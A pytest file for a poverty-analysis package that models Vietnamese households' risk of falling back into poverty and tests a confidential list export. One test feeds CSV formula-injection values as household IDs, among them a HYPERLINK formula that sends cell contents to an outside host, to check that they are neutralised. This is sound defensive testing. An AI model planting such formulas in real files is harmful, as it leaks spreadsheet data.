import csv
import os
import stat

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from numpy.testing import assert_allclose
from scipy import stats
from scipy.stats import mannwhitneyu

from povanalysis.common.safe import FORMULA_PREFIXES
from povanalysis.figures import targeting as figures
from povanalysis.reports.prose import targeting as prose
from povanalysis.targeting import beneficiaries as targeting
from povanalysis.targeting import discrimination, risk

# --------------------------------------------------------------------------- transitions by hand


def _row(
    h, year, cls, income, *, area="rural", size=4, deprivations=0, dependants=0, minority=True, old_area="bac_kan"
):
    return dict(
        household_id=h,
        review_year=year,
        commune_code="01840",
        area=area,
        income_pc=float(income),
        size=size,
        deprivations=deprivations,
        d_dependants=dependants,
        minority=minority,
        old_area=old_area,
        poverty_class=cls,
    )


@pytest.fixture
def hand():
    rows = [
        _row("K", 2021, "poor", 1_200_000, deprivations=4),
        _row("K", 2022, "average_living", 1_800_000, size=5, deprivations=2, dependants=1),
        _row("K", 2023, "near_poor", 1_400_000, size=5, deprivations=2),
        _row("L", 2021, "near_poor", 1_900_000, area="urban", minority=False, old_area="thai_nguyen"),
        _row("L", 2022, "not_poor", 3_500_000, area="urban", minority=False, old_area="thai_nguyen"),
        _row("L", 2023, "not_poor", 3_200_000, area="urban", minority=False, old_area="thai_nguyen"),
        _row("L", 2024, "average_living", 2_500_000, area="urban", minority=False, old_area="thai_nguyen"),
        _row("M", 2021, "not_poor", 5_000_000),
        _row("M", 2022, "not_poor", 5_000_000),
    ]
    return pd.DataFrame(rows)


@pytest.fixture
def hand_loans():
    return pd.DataFrame(
        {"household_id": ["K", "L"], "disbursed": pd.to_datetime(["2022-03-10", "2019-01-15"]), "term_months": [36, 36]}
    )


def test_transitions_by_hand(hand, hand_loans):
    t = risk.transitions(hand, hand_loans).set_index(["household_id", "review_year"])
    assert list(t.index) == [("K", 2022), ("L", 2022), ("L", 2023), ("L", 2024)]
    k = t.loc[("K", 2022)]
    assert_allclose(
        k[
            [
                "log_income_ratio",
                "income_change",
                "size_change",
                "deprivations",
                "dependants",
                "years_since_exit",
                "credit",
                "minority",
                "urban",
                "bac_kan",
                "line",
            ]
        ].to_numpy(float),
        [np.log(1.8 / 1.5), np.log(1.8 / 1.2), 1, 2, 1, 1, 1, 1, 0, 1, 1_500_000],
    )
    assert k["fell_back"] == True  # noqa: E712
    lo = t.loc[[("L", 2022), ("L", 2023), ("L", 2024)]]
    assert_allclose(lo["log_income_ratio"], np.log(np.array([3.5, 3.2, 2.5]) / 2.0))
    assert lo["years_since_exit"].tolist() == [1, 2, 3]
    assert lo["credit"].tolist() == [0.0, 0.0, 0.0]  # the 2019 loan matured in January 2022
    assert lo["fell_back"].iloc[:2].tolist() == [False, False] and pd.isna(lo["fell_back"].iloc[2])
    # previous status: K was poor when last listed (2021), L near-poor
    assert k["was_near_poor"] == 0.0 and lo["was_near_poor"].tolist() == [1.0, 1.0, 1.0]
    no_loans = risk.transitions(hand)
    assert no_loans["credit"].isna().all()
    near = risk.transitions(hand, fallback_classes=("poor",))
    assert near.set_index(["household_id", "review_year"]).loc[("K", 2022), "fell_back"] == False  # noqa: E712


def test_transitions_errors(hand, hand_loans):
    with pytest.raises(ValueError, match=r"'classified' lacks the columns \['d_dependants'\]"):
        risk.transitions(hand.drop(columns="d_dependants"))
    with pytest.raises(
        ValueError, match=r"'income_pc' of 'classified' must be positive for a log ratio, got 0.0 at row 4"
    ):
        risk.transitions(hand.assign(income_pc=hand["income_pc"].where(hand.index != 4, 0.0)))
    with pytest.raises(ValueError, match=r"'fallback_classes' must name classes"):
        risk.transitions(hand, fallback_classes=("destitute",))
    with pytest.raises(ValueError, match=r"'term_months' of 'loans' must hold positive integers, got 0 at row 1"):
        risk.transitions(hand, hand_loans.assign(term_months=[36, 0]))


# --------------------------------------------------------------------------- AUC


def test_auc_by_hand():
    a, se = discrimination.auc([1, 1, 0, 0], [0.9, 0.4, 0.5, 0.1])
    # V10 = (1, 1/2), V01 = (1/2, 1): variance 0.125/2 + 0.125/2
    assert a == 0.75
    assert_allclose(se, np.sqrt(0.125))
    assert discrimination.auc([1, 0, 1, 0], [1, 1, 0, 0])[0] == 0.5  # ties and an uninformative flag
    with pytest.raises(ValueError, match="'y' must hold both outcomes"):
        discrimination.auc([1, 1], [0.2, 0.3])
    with pytest.raises(ValueError, match="'score' must be finite"):
        discrimination.auc([1, 0], [np.nan, 0.3])


@settings(max_examples=30, deadline=None)
@given(st.lists(st.tuples(st.booleans(), st.integers(0, 6)), min_size=3, max_size=40))
def test_auc_is_the_mann_whitney_statistic(pairs):
    y = np.array([p[0] for p in pairs])
    s = np.array([p[1] for p in pairs], float)
    if y.all() or not y.any():
        return
    u = mannwhitneyu(s[y], s[~y]).statistic
    assert_allclose(discrimination.auc(y, s)[0], u / (y.sum() * (~y).sum()))


def test_auc_difference_by_hand():
    """Five units, derived by hand from DeLong's structural components.

    Score 1: positives 0.9, 0.6, 0.3 against negatives 0.5, 0.1 give V10 = (1, 1, 1/2) and
    V01 = (2/3, 1): AUC 5/6.  Score 2: positives 0.8, 0.2, 0.7 against 0.4, 0.6 give
    V10 = (1, 0, 1) and V01 = (2/3, 2/3): AUC 2/3.  The differences are (0, 1, -1/2) with
    variance 7/12 over 3 positives and (0, 1/3) with variance 1/18 over 2 negatives:
    var = 7/36 + 1/36 = 2/9.
    """
    y = [1, 1, 1, 0, 0]
    s1, s2 = [0.9, 0.6, 0.3, 0.5, 0.1], [0.8, 0.2, 0.7, 0.4, 0.6]
    d, se = discrimination.auc_difference(y, s1, s2)
    assert_allclose(d, 5 / 6 - 2 / 3)
    assert_allclose(se, np.sqrt(2 / 9))
    # a score against itself: no difference, no variance
    assert discrimination.auc_difference(y, s1, s1) == (0.0, 0.0)
    with pytest.raises(ValueError, match="'y' and 'score2' must be one-dimensional of the same length"):
        discrimination.auc_difference(y, s1, s2[:4])


def _kernel_variance(y, s1, s2, groups=None):
    """AUC difference and its variance from the full matrix of pair comparisons (no ranks)."""
    pos, neg = np.flatnonzero(y), np.flatnonzero(~y)
    m, n = len(pos), len(neg)

    def psi(s):
        d = s[pos][:, None] - s[neg][None, :]
        return (d > 0) + 0.5 * (d == 0)

    k = psi(s1) - psi(s2)
    theta = k.mean()
    v10, v01 = k.mean(axis=1), k.mean(axis=0)
    if groups is None:
        return theta, v10.var(ddof=1) / m + v01.var(ddof=1) / n
    labels = np.unique(groups)
    g = len(labels)
    e10 = np.array([(v10[groups[pos] == c] - theta).sum() for c in labels])
    e01 = np.array([(v01[groups[neg] == c] - theta).sum() for c in labels])
    s10 = g / (g - 1) / m * (e10**2).sum()
    s01 = g / (g - 1) / n * (e01**2).sum()
    s11 = g / (g - 1) * (e10 * e01).sum()
    return theta, s10 / m + s01 / n + 2 * s11 / (m * n)


def test_auc_difference_equals_the_pair_comparisons_with_and_without_clusters():
    rng = np.random.default_rng(3)
    y = rng.random(60) < 0.3
    s1 = rng.integers(0, 8, 60).astype(float) + 2 * y  # ties on purpose
    s2 = rng.normal(size=60) + y
    groups = np.repeat(list("abcdefghij"), 6)
    for g in (None, groups):
        theta, var = _kernel_variance(y, s1, s2, g)
        d, se = discrimination.auc_difference(y, s1, s2, groups=g)
        assert_allclose([d, se**2], [theta, var])
    # one unit per cluster: the clustered variance is DeLong's with (m - 1)/m and (n - 1)/n, times G/(G - 1)
    m, n = y.sum(), (~y).sum()
    # DeLong's structural components by hand: placements of each positive among the negatives, and back
    tz = stats.rankdata(np.r_[s1[y], s1[~y]])
    v10 = (tz[:m] - stats.rankdata(s1[y])) / n
    v01 = 1.0 - (tz[m:] - stats.rankdata(s1[~y])) / m
    expected = len(y) / (len(y) - 1) * ((m - 1) / m * v10.var(ddof=1) / m + (n - 1) / n * v01.var(ddof=1) / n)
    assert_allclose(discrimination.auc(y, s1, groups=np.arange(60))[1] ** 2, expected)
    with pytest.raises(ValueError, match=r"'groups' must hold one cluster label per unit \(60\), got shape \(59,\)"):
        discrimination.auc(y, s1, groups=groups[:59])
    with pytest.raises(ValueError, match="'groups' must hold at least two clusters, got 1"):
        discrimination.auc(y, s1, groups=np.zeros(60))


def test_clustered_auc_standard_errors_match_the_spread_over_simulated_panels():
    """Households of a commune share a shock that moves both their risk and their score: the
    clustered standard errors of an AUC and of a paired difference match the Monte-Carlo spread
    of the estimates, and the t intervals cover their mean in about 95% of panels."""
    reps, n, g = 400, 1000, 40
    rng = np.random.default_rng(7)
    groups = np.repeat(np.arange(g), n // g)
    out = np.empty((reps, 4))
    for r in range(reps):
        u = rng.normal(size=g)[groups]
        x1, x2 = rng.normal(size=n), rng.normal(size=n)
        y = rng.random(n) < 1 / (1 + np.exp(-(-1.5 + x1 + 0.7 * x2 + u)))
        s1, s2 = x1 + 0.7 * x2 + u, x1 + u
        out[r, :2] = discrimination.auc(y, s1, groups=groups)
        out[r, 2:] = discrimination.auc_difference(y, s1, s2, groups=groups)
    q = stats.t.ppf(0.975, g - 1)
    band = 3 * np.sqrt(0.95 * 0.05 / reps)
    for est, se in ((out[:, 0], out[:, 1]), (out[:, 2], out[:, 3])):
        ratio = np.sqrt(np.mean(se**2)) / est.std(ddof=1)
        assert 0.88 < ratio < 1.12, ratio
        cover = np.mean(np.abs(est - est.mean()) <= q * se)
        assert abs(cover - 0.95) < band, cover


# --------------------------------------------------------------------------- logits and their calibration


def test_fit_logit_matches_statsmodels(small_classified, small_panel):
    sm = pytest.importorskip("statsmodels.api")
    t = risk.transitions(small_classified, small_panel.loans)
    t = t[t["fell_back"].notna() & (t["outcome_year"] < 2025)]
    x = sm.add_constant(t[["log_income_ratio", "income_change", "credit", "minority"]].to_numpy(float))
    y = t["fell_back"].to_numpy(float)
    codes = pd.factorize(t["commune_code"])[0]
    ref = sm.Logit(y, x).fit(disp=0, cov_type="cluster", cov_kwds={"groups": codes})
    fit = discrimination.fit_logit(x, y, groups=t["commune_code"].to_numpy())
    assert_allclose(fit.params, ref.params, rtol=1e-9)
    assert_allclose(fit.se, ref.bse, rtol=1e-9)  # CR1, as statsmodels
    assert fit.n_clusters == len(set(codes)) and fit.df == fit.n_clusters - 1
    naive = discrimination.fit_logit(x, y)
    assert_allclose(naive.se, sm.Logit(y, x).fit(disp=0).bse, rtol=1e-9)
    assert np.isinf(naive.df) and naive.n_clusters is None
    lo, hi = fit.conf_int()
    assert_allclose(hi - fit.params, stats.t.ppf(0.975, fit.df) * fit.se)
    assert list(fit.to_frame(["const", "a", "b", "c", "d"])["term"]) == ["const", "a", "b", "c", "d"]
    assert "cluster-robust (CR1)" in fit.summary()


def test_fit_logit_errors():
    x = np.column_stack([np.ones(6), [0, 1, 2, 0, 1, 2]])
    with pytest.raises(ValueError, match="'y' must hold 0/1 outcomes"):
        discrimination.fit_logit(x, [0, 0, 2, 0, 1, 1])
    with pytest.raises(ValueError, match=r"'y' must have shape \(6,\) to match 'x' \(6, 2\), got \(5,\)"):
        discrimination.fit_logit(x, [0, 0, 1, 0, 1])
    with pytest.raises(RuntimeError, match="did not converge"):
        discrimination.fit_logit(x, [0, 0, 1, 0, 0, 1])  # x = 2 separates the outcomes
    with pytest.raises(ValueError, match="'probability' must be strictly between 0 and 1"):
        discrimination.recalibration([0, 1], [0.0, 0.5])


def _simulated_panels(rng, reps, n, beta):
    """``reps`` data sets of ``n`` units from a known logit: a normal, a binary and an irrelevant predictor."""
    x = np.concatenate(
        [
            np.ones((reps, n, 1)),
            rng.normal(size=(reps, n, 1)),
            (rng.random((reps, n, 1)) < 0.4).astype(float),
            rng.normal(size=(reps, n, 1)),
        ],
        axis=-1,
    )
    eta = x @ beta
    y = (rng.random((reps, n)) < 1 / (1 + np.exp(-eta))).astype(float)
    return x, eta, y


@pytest.mark.parametrize("n", [400, 2000])
def test_intervals_cover_the_truth_in_95_percent_of_simulated_panels(n):
    """Simulation study of the estimators: data drawn from a known logit, 600 panels of ``n``
    households in 40 communes, every panel fitted at once.  The 95% intervals of the
    coefficients (including a planted zero) cover the planted values, and those of the
    calibration-in-the-large and slope of the true probabilities cover 0 and 1, in 95% of the
    panels, within three binomial Monte-Carlo standard errors (0.95 ± 0.027)."""
    reps, g = 600, 40
    beta = np.array([-1.5, 1.0, 0.5, 0.0])
    rng = np.random.default_rng(20250 + n)
    x, eta, y = _simulated_panels(rng, reps, n, beta)
    groups = np.repeat(np.arange(g), n // g)
    band = 3 * np.sqrt(0.95 * 0.05 / reps)
    fit = discrimination.fit_logit(x, y, groups=groups)
    assert fit.params.shape == (reps, 4) and fit.df == g - 1
    lo, hi = fit.conf_int()
    cover = ((lo <= beta) & (beta <= hi)).mean(axis=0)
    assert (np.abs(cover - 0.95) < band).all(), cover
    large, slope = discrimination.recalibration(y, 1 / (1 + np.exp(-eta)), groups=groups)
    lo, hi = large.conf_int()
    cover_large = np.mean((lo[:, 0] <= 0) & (0 <= hi[:, 0]))
    lo, hi = slope.conf_int()
    cover_slope = np.mean((lo[:, 1] <= 1) & (1 <= hi[:, 1]))
    assert abs(cover_large - 0.95) < band and abs(cover_slope - 0.95) < band, (cover_large, cover_slope)
    # and the test has power: probabilities shifted by -0.5 on the logit scale are flagged in most panels
    lo, _ = discrimination.recalibration(y, 1 / (1 + np.exp(-(eta - 0.5))), groups=groups)[0].conf_int()
    assert np.mean(lo[:, 0] > 0) > 0.9


# --------------------------------------------------------------------------- the model on the synthetic panel


@pytest.fixture(scope="module")
def model(small_classified, small_panel):
    return risk.fit_fallback_model(small_classified, small_panel.loans)


def test_model_against_the_best_simple_score(model, small_classified, small_panel):
    """The model is compared with the strongest simple score on the same out-of-time households,
    not with the rule of thumb (a two-way cut of the distance to the line)."""
    assert model.test_year == 2025 and model.train_years == (2023, 2024)
    assert [b.score for b in model.baselines] == [*risk.SIMPLE_SCORES, "rule_of_thumb"]
    b, rule = model.baseline, model.rule
    assert b.score == "income_ratio" and b.direction == -1 and rule.score == "rule_of_thumb"
    assert b.auc == max(s.auc for s in model.baselines if s is not rule)
    msg = f"model AUC {model.auc:.3f} vs {b.score} {b.auc:.3f}, difference {model.auc_difference:.3f}"
    # at this scale the model's gain over the distance to the line is small (its interval may or
    # may not hold zero, depending on the panel); the rule of thumb is clearly weaker than both
    assert model.auc > b.auc > rule.auc, msg
    lo, hi = model.auc_difference_ci
    assert lo < model.auc_difference < hi and hi - lo < 0.05 and lo > -0.05, msg
    assert rule.difference_ci[0] > 0 and model.auc - rule.auc > 3 * model.auc_difference, msg
    assert_allclose(model.auc_difference, model.auc - b.auc)
    for s in model.baselines:
        assert_allclose(s.difference, model.auc - s.auc)
        assert s.auc_ci[0] < s.auc < s.auc_ci[1] and s.difference_ci[0] < s.difference < s.difference_ci[1]
    # the baseline is the AUC of income / line, lower riskier, on the test transitions
    t = risk.transitions(small_classified, small_panel.loans)
    te = t[(t["outcome_year"] == 2025) & t["fell_back"].notna()]
    y = te["fell_back"].to_numpy(bool)
    assert_allclose(b.auc, discrimination.auc(y, -te["income_pc"] / te["line"])[0])
    assert_allclose(rule.auc, discrimination.auc(y, (te["income_pc"] <= 1.1 * te["line"]).astype(float))[0])
    assert rule.flagged_share > 0 and rule.precision > model.base_rate
    assert model.precision_at_top_decile > model.base_rate


def test_calibration_of_the_fitted_model(model):
    """(a) On the synthetic panel the out-of-time calibration-in-the-large interval covers 0 and
    the slope interval covers 1."""
    lo, hi = model.calibration_intercept_ci
    assert lo < 0 < hi, model.calibration_intercept_ci
    lo, hi = model.calibration_slope_ci
    assert lo < 1 < hi, model.calibration_slope_ci
    assert model.n_clusters == 92
    q = stats.t.ppf(0.975, model.n_clusters - 1)
    assert_allclose(model.calibration_intercept_ci[1] - model.calibration_intercept, q * model.calibration_intercept_se)


def test_a_miscalibrated_model_is_flagged(small_classified, small_panel, monkeypatch):
    """(b) Every probability too low (logit shifted by -0.5): the calibration-in-the-large interval
    excludes 0, whereas each decile, compared with an interval built from itself, would pass.
    Probabilities too extreme (logit stretched by 1.5): the slope interval excludes 1."""
    original = risk.FallbackModel._linear_predictor
    monkeypatch.setattr(risk.FallbackModel, "_linear_predictor", lambda self, t: original(self, t) - 0.5)
    # the model's code is changed while the test runs, which a cache key cannot see: no cache
    low = risk.fit_fallback_model(small_classified, small_panel.loans, cache=None)
    assert low.calibration_intercept_ci[0] > 0, low.calibration_intercept_ci
    assert low.mean_predicted < low.base_rate
    monkeypatch.setattr(risk.FallbackModel, "_linear_predictor", lambda self, t: 1.5 * original(self, t) + 1.0)
    extreme = risk.fit_fallback_model(small_classified, small_panel.loans, cache=None)
    assert extreme.calibration_slope_ci[1] < 1, extreme.calibration_slope_ci
    assert "too extreme" in prose.evaluation_text(extreme, lang="en")
    assert prose.calibration_table(extreme, lang="en").iloc[3]["Verdict"] == "interval excludes the ideal value"


def test_model_evaluation_tables(model):
    cal = model.calibration
    assert len(cal) == 10 and cal["n"].sum() == model.n_test
    assert_allclose((cal["observed"] * cal["n"]).sum() / cal["n"].sum(), model.base_rate)
    assert_allclose((cal["predicted"] * cal["n"]).sum() / cal["n"].sum(), model.mean_predicted)
    assert cal["predicted"].is_monotonic_increasing
    f = model.to_frame()
    assert list(f.columns) == ["measure", "model", "role", "value", "se", "ci_lower", "ci_upper", "n", "test_year"]
    row = f.set_index(["measure", "model"])
    assert_allclose(row.loc[("AUC", "logit"), "value"], model.auc)
    assert row.loc[("AUC", "income_ratio"), "role"] == "baseline"
    assert row.loc[("AUC", "rule_of_thumb"), "role"] == "rule_of_thumb"
    assert_allclose(
        row.loc[("AUC_difference", "logit - income_ratio"), ["value", "ci_lower", "ci_upper"]],
        [model.auc_difference, *model.auc_difference_ci],
    )
    assert_allclose(
        row.loc[("calibration_slope", "logit"), ["value", "ci_lower", "ci_upper"]],
        [model.calibration_slope, *model.calibration_slope_ci],
    )
    text = model.summary()
    assert "baseline (best simple score): income_ratio" in text and "calibration slope" in text
    assert "log_income_ratio" in text
    # Further above the line, less risk; the log ratio is the leading predictor.
    coef = model.coefficients.set_index("term")
    assert coef.loc["log_income_ratio", "ci_upper"] < 0
    assert_allclose(coef["se"], model.logit.se)
    assert set(model.features) | set(model.dropped) == set(risk.FEATURES)


def test_model_uses_no_information_from_later_reviews(small_classified, small_panel):
    full = risk.fit_fallback_model(small_classified, small_panel.loans, test_year=2024)
    cut = small_classified[small_classified["review_year"] <= 2024]
    loans = small_panel.loans[small_panel.loans["disbursed"].dt.year <= 2024]
    early = risk.fit_fallback_model(cut, loans, test_year=2024)
    assert full.train_years == early.train_years == (2023,)
    assert_allclose(full.logit.params, early.logit.params)
    assert_allclose(full.auc, early.auc)
    assert [b.direction for b in full.baselines] == [b.direction for b in early.baselines]


def test_scores(model, small_classified):
    scores = model.score(small_classified)
    elig = targeting.eligibility(small_classified)
    newly = elig[(elig["review_year"] == 2025) & elig["eligible_newly_escaped"]]
    assert set(scores["household_id"]) == set(newly["household_id"]) and len(scores) == len(newly)
    assert ((scores["probability"] > 0) & (scores["probability"] < 1)).all()
    assert list(scores.columns) == [
        "household_id",
        "review_year",
        "commune_code",
        "minority",
        "log_income_ratio",
        "income_change",
        "probability",
    ]
    # The scores of an earlier review are the model's predictions for that review's transitions.
    earlier = model.score(small_classified, review_year=2024)
    assert (earlier["review_year"] == 2024).all()
    with pytest.raises(ValueError, match=r"'review_year' 2030 is not in 'classified'"):
        model.score(small_classified, review_year=2030)


def test_fit_errors(small_classified, small_panel, hand):
    with pytest.raises(
        ValueError, match=r"'train_years' must all be earlier than test_year 2024 \(out-of-time\), got \[2024\]"
    ):
        risk.fit_fallback_model(small_classified, train_years=(2023, 2024), test_year=2024)
    with pytest.raises(
        ValueError, match=r"'test_year' 2022 has no transitions; outcome review years: \[2023, 2024, 2025\]"
    ):
        risk.fit_fallback_model(small_classified, test_year=2022)
    with pytest.raises(ValueError, match=r"'rule_margin' must be in \[0, 1\), got 1.5"):
        risk.fit_fallback_model(small_classified, rule_margin=1.5)
    with pytest.raises(
        ValueError, match=r"out-of-time evaluation needs transitions into at least two reviews, got \[2023\]"
    ):
        risk.fit_fallback_model(hand[hand["review_year"] <= 2023])
    one_sided = pd.DataFrame(
        [
            _row("P", 2021, "poor", 1e6),
            _row("P", 2022, "average_living", 1.6e6),
            _row("P", 2023, "poor", 1e6),
            _row("Q", 2022, "poor", 1e6),
            _row("Q", 2023, "average_living", 1.7e6),
            _row("Q", 2024, "poor", 1e6),
            _row("R", 2022, "near_poor", 1e6),
            _row("R", 2023, "not_poor", 3e6),
            _row("R", 2024, "not_poor", 3e6),
        ]
    )
    with pytest.raises(ValueError, match=r"the training transitions hold only one outcome \(all fell back\)"):
        risk.fit_fallback_model(one_sided)


# --------------------------------------------------------------------------- published counts and the confidential list


@pytest.fixture
def scores():
    return pd.DataFrame(
        {
            "household_id": ["a", "b", "c", "d", "e"],
            "review_year": [2025] * 5,
            "commune_code": ["01840", "01840", "01840", "01843", "01843"],
            "minority": [True, False, True, True, False],
            "log_income_ratio": [0.05, 0.2, 0.5, 0.01, 0.3],
            "income_change": [0.3, 0.1, 0.0, 0.4, -0.1],
            "probability": [0.40, 0.25, 0.05, 0.70, 0.10],
        }
    )


def test_at_risk_counts_by_hand(scores):
    t = risk.at_risk_counts(scores, threshold=0.25, min_cell=3)
    assert t.to_dict("list") == {
        "review_year": [2025, 2025],
        "commune_code": ["01840", "01843"],
        "households": [3, 2],
        "at_risk": [2, 1],
        "at_risk_rate": [2 / 3, 0.5],
        "expected_fallbacks": pytest.approx([0.7, 0.8]),
        "suppressed": [False, True],
    }
    by = risk.at_risk_counts(scores, by=("commune_code", "minority"), min_cell=1)
    assert by["households"].tolist() == [1, 2, 1, 1] and "household_id" not in by.columns
    assert risk.at_risk_counts(scores)["suppressed"].all()  # fewer than 10 households each
    with pytest.raises(ValueError, match="'by' must not hold 'household_id'"):
        risk.at_risk_counts(scores, by="household_id")
    with pytest.raises(ValueError, match=r"'threshold' must be in \(0, 1\], got 0"):
        risk.at_risk_counts(scores, threshold=0)
    with pytest.raises(ValueError, match=r"'probability' of 'scores' must be in \[0, 1\], got 1.2 at row 1"):
        risk.at_risk_counts(scores.assign(probability=[0.1, 1.2, 0.1, 0.1, 0.1]))


def test_confidential_export(scores, tmp_path, monkeypatch):
    path = risk.confidential_export(scores, tmp_path / "lists" / "MAT-CONFIDENTIAL_fallback_2025.csv", threshold=0.3)
    lines = path.path.read_text(encoding="utf-8-sig").splitlines()
    assert lines[0].startswith("MẬT — CONFIDENTIAL: ") and "do not publish" in lines[0]
    back = pd.read_csv(path, skiprows=1, dtype={"commune_code": str}, encoding="utf-8-sig")
    assert back["household_id"].tolist() == ["a", "b", "c", "d", "e"]
    assert back["rank_in_commune"].tolist() == [1, 2, 3, 1, 2]
    assert back["at_risk"].tolist() == [True, False, False, True, False]
    assert back["commune_name"].iloc[0] == "Phường Đức Xuân"
    with pytest.raises(ValueError, match=r"its name must contain 'CONFIDENTIAL', got 'risk.csv'"):
        risk.confidential_export(scores, tmp_path / "risk.csv")
    with pytest.raises(ValueError, match=r"'path' must be a .csv file, got 'confidential.xlsx'"):
        risk.confidential_export(scores, tmp_path / "confidential.xlsx")
    monkeypatch.setenv("POVANALYSIS_REPORTS_DIR", str(tmp_path / "reports"))
    with pytest.raises(ValueError, match=r"which is the published reports folder"):
        risk.confidential_export(scores, tmp_path / "reports" / "communes" / "confidential.csv")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_confidential_export_writes_formulas_as_text(scores, tmp_path):
    ids = ['=HYPERLINK("http://example.org/?"&A1,"xem")', "+84912", "-1+2", "@SUM(A1)", "\tTN0000005"]
    hostile = scores.assign(household_id=ids, income_change=[-0.3, 0.1, 0.0, -0.4, -0.1])
    out = risk.confidential_export(hostile, tmp_path / "MAT-CONFIDENTIAL_fallback.csv")
    with open(out, newline="", encoding="utf-8-sig") as f:
        rows = list(csv.reader(f))[1:]  # under the confidential notice
    header, body = rows[0], rows[1:]
    cells = [cell for row in body for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_PREFIXES) and not _is_number(c)]
    assert sorted(r[header.index("household_id")] for r in body) == sorted("'" + i for i in ids)
    # numbers stay numbers, negative ones too
    change = [r[header.index("income_change")] for r in body]
    assert all(_is_number(c) for c in change) and sum(c.startswith("-") for c in change) == 3


@pytest.fixture
def published(tmp_path, monkeypatch):
    """A configured reports folder, a report set elsewhere (index and stamps) and a folder of report stamps."""
    configured = tmp_path / "configured"
    (configured / "communes").mkdir(parents=True)
    monkeypatch.setenv("POVANALYSIS_REPORTS_DIR", str(configured))
    site = tmp_path / "site"
    (site / "communes").mkdir(parents=True)
    (site / "index.html").write_text("<p>Mục lục</p>", encoding="utf-8")
    (site / "index.stamp.json").write_text('{"digest": "0"}', encoding="utf-8")
    (site / "communes" / "01840-phuong-duc-xuan.html").write_text("<p>Xã</p>", encoding="utf-8")
    (site / "communes" / "01840-phuong-duc-xuan.stamp.json").write_text('{"digest": "1"}', encoding="utf-8")
    stamps = tmp_path / "copied" / "province"
    stamps.mkdir(parents=True)
    (stamps / "01-province-overview.stamp.json").write_text('{"digest": "2"}', encoding="utf-8")
    (tmp_path / "lists").mkdir()
    return tmp_path


def _hard_link_into_configured(root):
    inside = root / "configured" / "communes" / "MAT-CONFIDENTIAL_old.csv"
    inside.write_text("old", encoding="utf-8")
    os.link(inside, root / "lists" / "MAT-CONFIDENTIAL.csv")
    return root / "lists" / "MAT-CONFIDENTIAL.csv", r"has 2 names \(hard links\)"


def _symlinked_folder_into_batch(root):
    (root / "lists" / "shared").symlink_to(root / "site" / "communes", target_is_directory=True)
    return root / "lists" / "shared" / "MAT-CONFIDENTIAL.csv", r"holds report stamps"


def _symlinked_file_into_batch(root):
    (root / "lists" / "MAT-CONFIDENTIAL.csv").symlink_to(root / "site" / "MAT-CONFIDENTIAL.csv")
    return root / "lists" / "MAT-CONFIDENTIAL.csv", r"holds a report set's index.html and index.stamp.json"


def _link_in_batch_to_elsewhere(root):
    (root / "site" / "lists").symlink_to(root / "lists", target_is_directory=True)
    return root / "site" / "lists" / "MAT-CONFIDENTIAL.csv", r"holds a report set's index.html and index.stamp.json"


def _batch_folder_by_its_index(root):
    return root / "site" / "MAT-CONFIDENTIAL.csv", r"holds a report set's index.html and index.stamp.json"


def _below_a_batch_folder(root):
    return root / "site" / "private" / "MAT-CONFIDENTIAL.csv", r"holds a report set's index.html"


def _folder_of_report_stamps(root):
    return root / "copied" / "province" / "MAT-CONFIDENTIAL.csv", r"holds report stamps"


def _configured_folder_through_a_symlink(root):
    (root / "lists" / "configured").symlink_to(root / "configured", target_is_directory=True)
    return root / "lists" / "configured" / "MAT-CONFIDENTIAL.csv", r"is the published reports folder"


@pytest.mark.parametrize(
    "way",
    [
        _hard_link_into_configured,
        _symlinked_folder_into_batch,
        _symlinked_file_into_batch,
        _link_in_batch_to_elsewhere,
        _batch_folder_by_its_index,
        _below_a_batch_folder,
        _folder_of_report_stamps,
        _configured_folder_through_a_symlink,
    ],
)
def test_confidential_export_refuses_every_way_into_a_published_folder(scores, published, way):
    path, reason = way(published)
    before = {p: p.stat().st_mtime_ns for p in published.rglob("*") if not p.is_symlink()}
    with pytest.raises(ValueError, match=reason) as refused:
        risk.confidential_export(scores, path)
    assert "household lists must never be written there" in str(refused.value)
    after = {p: p.stat().st_mtime_ns for p in published.rglob("*") if not p.is_symlink()}
    assert after == before  # nothing written, nothing replaced


def test_confidential_export_is_readable_by_its_owner_only(scores, published, monkeypatch):
    replaced = []
    real_replace = os.replace

    def replace(src, dst):
        # at the moment the list takes its name, it is complete and readable by its owner only
        replaced.append((stat.S_IMODE(os.stat(src).st_mode), os.stat(src).st_size))
        return real_replace(src, dst)

    monkeypatch.setattr(os, "replace", replace)
    old = os.umask(0)  # the most permissive umask: the list must still be private
    try:
        target = published / "lists" / "MAT-CONFIDENTIAL_fallback.csv"
        target.write_text("an older list", encoding="utf-8")
        target.chmod(0o644)
        out = risk.confidential_export(scores, target)
    finally:
        os.umask(old)
    assert out.path == target.resolve() and out.households == len(scores)
    assert stat.S_IMODE(os.stat(out).st_mode) == 0o600
    assert replaced and replaced[-1][0] == 0o600 and replaced[-1][1] == os.stat(out).st_size
    assert str(out.path) in out.message and "chỉ chủ sở hữu tệp được đọc" in out.message
    assert "readable by its owner only" in out.message
    assert [p.name for p in target.parent.iterdir()] == [target.name]  # no temporary file left


def test_calibration_figure(model):
    f = figures.calibration_figure(model, lang="en")
    assert [t.name for t in f.data] == ["Perfect calibration", "Observed fall-back rate"]
    assert_allclose(list(f.data[1].y), model.calibration["observed"])
    assert f"{model.auc:.3f}" in f.layout.title.text and f"{model.baseline.auc:.3f}" in f.layout.title.text
    vi = figures.calibration_figure(model)
    assert (
        vi.layout.xaxis.title.text == "Xác suất dự báo" and f"{model.auc:.3f}".replace(".", ",") in vi.layout.title.text
    )
    with pytest.raises(TypeError, match="'model' should be a FallbackModel, got dict"):
        figures.calibration_figure({})


def _signed(value, digits=3, sign=False):
    """A number as the texts print it: a true minus sign."""
    return (f"{value:+.{digits}f}" if sign else f"{value:.{digits}f}").replace("-", "\u2212")


def test_evaluation_text(model):
    en = prose.evaluation_text(model, lang="en")
    b = model.baseline
    lo, hi = model.auc_difference_ci
    for piece in (
        f"AUC {model.auc:.3f}",
        f"the distance to the income line (income ÷ line), reaches {b.auc:.3f}",
        f"model minus this score: {_signed(model.auc_difference, sign=True)} (95% CI {_signed(lo)} to {_signed(hi)})",
        f"reaches an AUC of {model.rule.auc:.3f}",
        "income at most 110% of the line",
        f"calibration-in-the-large {_signed(model.calibration_intercept)} (95% CI",
        f"calibration slope {model.calibration_slope:.3f}",
        "the average risk is right within its uncertainty",
        f"{model.n_clusters} communes",
    ):
        assert piece in en, piece
